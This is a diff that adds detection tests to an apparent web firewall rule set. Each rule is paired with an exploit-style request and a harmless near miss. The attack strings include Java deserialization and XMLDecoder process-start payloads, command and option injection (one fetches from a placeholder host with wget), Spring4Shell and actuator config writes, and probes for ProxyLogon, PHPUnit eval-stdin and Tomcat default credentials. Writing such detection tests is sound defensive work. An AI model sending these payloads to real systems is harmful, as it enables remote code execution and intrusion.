@@ -104,3 +104,36 @@ describe('bundled rules for the issue-14 attack families', () => {
     expect(hits(header('User-Agent', 'Mozilla/5.0 (Hydra)')).map(([s]) => s)).toContain(9001101);
   });
 });
+
+// Issue 18: exploit classes and known-vulnerable endpoints. Written from what each vulnerability needs,
+// not from the exploit generator's templates; [sid, effect, attack, benign near miss].
+const XML_HEADERS: Array<[string, string]> = [...BROWSER, ['Content-Type', 'text/xml']];
+const xml = (url: string, body: string): RequestSpec => ({ method: 'POST', url, headers: XML_HEADERS, body });
+const EXPLOIT_CASES: Array<[number, 'block' | 'suspicious', string, RequestSpec, RequestSpec]> = [
+  [9001006, 'block', 'a base64 Java object as an XML element text', xml('/rpc', '<value><serializable>rO0ABXNyABNqYXZhLnV0aWwuQXJyYXlMaXN0</serializable></value>'), xml('/rpc', '<value><string>rO0 is not base64 here</string></value>')],
+  [9001012, 'block', 'an XMLDecoder document starting a process', xml('/svc', '<java class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array><void method="start"/></object></java>'), xml('/svc', '<java class="java.beans.XMLDecoder"><object class="java.util.ArrayList"><void method="add"><string>a</string></void></object></java>')],
+  [9000507, 'block', 'a remote WAR handed to a deployer', q('action=invoke&arg0=http%3A%2F%2Fx.test%2Fapp.war'), q('download=https%3A%2F%2Fx.test%2Fsoftware.html&doc=war.pdf')],
+  [9000312, 'suspicious', 'a separator and a command at the start of a URI value', q('host=%3Bwget+http%3A%2F%2Fx.test%2Fa'), q('q=%3B+semicolons+in+prose&sep=%7C')],
+  [9000313, 'block', 'zip option injection in a file name', q('cmd=archive&name=-TmTT%3Dsh+-c+id+a.zip'), q('name=-T-shirt+sizes&title=--draft--')],
+  [9000313, 'block', 'tar checkpoint action in a form value', form('opts=--checkpoint-action%3Dexec%3Dsh+x.sh'), form('opts=--checkpoint%3D100')],
+  [9001317, 'block', 'a PHP function as a Symfony _controller', { url: '/_fragment?_path=_controller%3Dsystem%26command%3Did&_hash=x' }, { url: '/_fragment?_path=_controller%3DApp%5CController%5CHome%3A%3Aindex&_hash=x' }],
+  [9001318, 'block', 'a parameter name walking into the application config', q('bootstrapStatusProvider.applicationConfig.setupComplete=false'), q('status=setupComplete&config.theme=dark')],
+  [9001318, 'block', 'class.module.classLoader in a form', form('class.module.classLoader.resources.context.parent.pipeline.first.pattern=x'), form('class=module&loader=lazy')],
+  [9001319, 'block', 'an actuator env write of logging.config', { method: 'POST', url: '/actuator/env', headers: JSON_HEADERS, body: '{"name":"logging.config","value":"http://x.test/l.xml"}' }, { method: 'POST', url: '/actuator/env', headers: JSON_HEADERS, body: '{"name":"app.greeting","value":"hi"}' }],
+  [9001501, 'block', 'the Nacos server user agent on the auth API', { method: 'POST', url: '/nacos/v1/auth/users?username=a&password=b', headers: [['Host', 'x.test'], ['User-Agent', 'Nacos-Server']] }, { method: 'POST', url: '/nacos/v1/auth/users?username=a&password=b', headers: BROWSER }],
+  [9001502, 'block', 'the Joomla API with public=true', { url: '/api/index.php/v1/config/application?public=true' }, { url: '/api/index.php/v1/articles?page=2' }],
+  [9001503, 'block', 'a ProxyLogon back-end cookie', header('Cookie', 'X-BEResource=a]@x.test:444/autodiscover/autodiscover.xml?#~1942062522'), header('Cookie', 'X-BackEndCookie=S-1-5-21=abc; X-OWA-CANARY=x')],
+  [9001504, 'block', 'PHPUnit eval-stdin.php', { method: 'POST', url: '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', body: '<?php echo 1;' }, { url: '/docs/phpunit/getting-started.html' }],
+  [9001505, 'block', 'a Tomcat PUT of a JSP with a trailing slash', { method: 'PUT', url: '/upload/x.jsp/', body: '<% out.println(1); %>' }, { method: 'PUT', url: '/files/x.json', body: '{}' }],
+  [9001506, 'block', 'the Tomcat manager with tomcat/tomcat', { url: '/manager/text/list', headers: [...BROWSER, ['Authorization', 'Basic dG9tY2F0OnRvbWNhdA==']] }, { url: '/manager/text/list', headers: [...BROWSER, ['Authorization', 'Basic ZGVwbG95ZXI6cXVpZXQtcml2ZXItNzc=']] }],
+];
+
+describe('bundled rules for exploit classes and known-vulnerable endpoints (issue 18)', () => {
+  it.each(EXPLOIT_CASES.map(([sid, effect, name, attack]) => [`${sid} ${name}`, sid, effect, attack] as const))('%s: fires', (_n, sid, effect, attack) => {
+    expect(hits(attack)).toContainEqual([sid, effect]);
+  });
+
+  it.each(EXPLOIT_CASES.map(([sid, , name, , benign]) => [`${sid} ${name}`, sid, benign] as const))('%s: quiet on the near miss', (_n, sid, benign) => {
+    expect(hits(benign).map(([s]) => s)).not.toContain(sid);
+  });
+});
